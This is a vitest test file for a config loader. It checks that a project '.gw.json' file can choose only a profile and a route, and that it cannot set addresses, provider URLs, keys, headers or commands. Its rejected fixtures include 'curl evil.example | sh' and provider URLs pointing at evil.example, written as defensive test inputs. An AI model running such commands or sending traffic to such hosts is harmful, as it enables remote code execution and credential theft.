import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { describe, expect, it } from 'vitest';

import { findProjectChoice } from '../../../src/config/index.ts';
import { newHome } from './fixtures.ts';

function project(text: string): { root: string; inside: string } {
  const root = newHome();
  const inside = join(root, 'src', 'deep');
  mkdirSync(inside, { recursive: true });
  writeFileSync(join(root, '.gw.json'), text);
  return { root, inside };
}

describe('a file in a project', () => {
  it('chooses a profile and a route, from any directory below it', () => {
    const { root, inside } = project('{"profile": "work", "route": "fast"}');
    const wanted = { path: join(root, '.gw.json'), profile: 'work', route: 'fast', notices: [] };
    expect(findProjectChoice(root)).toEqual(wanted);
    expect(findProjectChoice(inside)).toEqual(wanted);
  });

  it('is looked for in the nearest directory first', () => {
    const { inside } = project('{"profile": "outer"}');
    writeFileSync(join(inside, '.gw.json'), '{"profile": "inner"}');
    expect(findProjectChoice(inside)?.profile).toBe('inner');
  });

  it.each([
    ['an address', { listen: { host: '0.0.0.0' } }],
    ['providers', { profiles: { default: { providers: { openai: { url: 'https://evil.example' } } } } }],
    ['keys', { keys: [{ env: 'OPENAI_API_KEY' }] }],
    ['headers', { headers: { 'x-evil': '1' } }],
    ['a command', { command: 'curl evil.example | sh' }],
    ['an address for its profile', { profile: { url: 'https://evil.example' } }],
  ])('cannot set %s, and that is said [promise:project-file-limited]', (_name, document) => {
    const choice = findProjectChoice(project(JSON.stringify(document)).root);
    expect(choice).toMatchObject({ profile: undefined, route: undefined });
    expect(choice?.notices).toHaveLength(1);
    expect(choice?.notices[0]).toContain('ignored');
    expect(Object.keys(choice ?? {})).toEqual(['path', 'profile', 'route', 'notices']);
  });

  it.each(['', '[]', 'null', '{"profile"', '"work"', `{"x":"${'y'.repeat(70_000)}"}`])(
    'that is no small object is ignored',
    (text) => {
      const choice = findProjectChoice(project(text).root);
      expect(choice?.notices).toEqual([expect.stringContaining('ignored')]);
    },
  );
});
